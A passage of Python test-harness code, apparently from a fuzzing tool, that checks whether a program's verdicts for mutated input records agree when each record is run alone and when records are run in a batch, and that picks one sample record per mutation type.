        if run.code == 0 and 0 not in run.seen.verdicts:
            found.append(Finding("stdout", where, "exit 0 and no result on stdout", p.mutation))
        alone, batched = run.seen.verdicts.get(0), batch.seen.verdicts.get(p.line) if batch else None
        if batched and run.code in (0, 2) and p.mutation != "over_1mib" and (
                (alone is None) != (batched.grades is None) or (alone and dict(alone.grades or ()) !=
                                                               dict(batched.grades or ()))):
            found.append(Finding("single run", where, f"alone: {_verdict(alone)}; in the batch: {_verdict(batched)}",
                                 p.mutation))
    return found


def sample(cohort: Cohort, hooks: bool) -> list[Planted]:
    """The first record of each mutation (with the hooks plugin, of each hook's mutation)."""
    first: dict[str, Planted] = {}
    for p in cohort.planted:
        if p.mutation != "valid" and (p.mutation in HOOKED) == hooks:
            first.setdefault(p.mutation, p)
    return list(first.values())
